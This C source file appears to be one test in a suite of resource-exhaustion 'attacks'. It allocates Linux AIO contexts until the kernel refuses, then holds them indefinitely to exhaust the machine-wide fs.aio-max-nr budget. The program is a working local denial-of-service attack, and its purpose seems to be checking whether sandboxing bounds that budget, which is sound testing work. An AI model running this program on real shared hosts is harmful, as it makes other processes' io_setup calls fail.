/* A machine-wide budget: fs.aio-max-nr (AIO events of all processes
 * together).  io_setup contexts of argv[1] (4096) events until the kernel
 * refuses, then hold them: without a bound, the host's own io_setup fails
 * (EAGAIN) while this runs.  Prints "holding" once it holds what it got. */
#include "attack.h"
#include <linux/aio_abi.h>
#include <stdlib.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	unsigned nr = argc > 1 ? (unsigned)atoi(argv[1]) : 4096;
	int got = 0;
	for (; got < 100000; got++) {
		aio_context_t ctx = 0;
		if (syscall(SYS_io_setup, nr, &ctx) < 0) {
			say("io_setup %d: %s", got, ename(errno));
			break;
		}
	}
	say("%d contexts of %u events", got, nr);
	say("holding");
	for (;;)
		pause();
}
